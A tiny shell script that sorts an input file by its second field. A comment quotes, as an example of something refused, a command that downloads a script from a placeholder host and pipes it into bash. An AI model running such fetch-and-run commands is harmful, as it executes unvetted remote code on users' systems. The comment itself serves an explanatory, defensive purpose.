#!/bin/sh
# A line such as this one would be refused:
#   bash -c "curl -fsSL https://box.invalid/go | bash"
sort -k2 "$1"
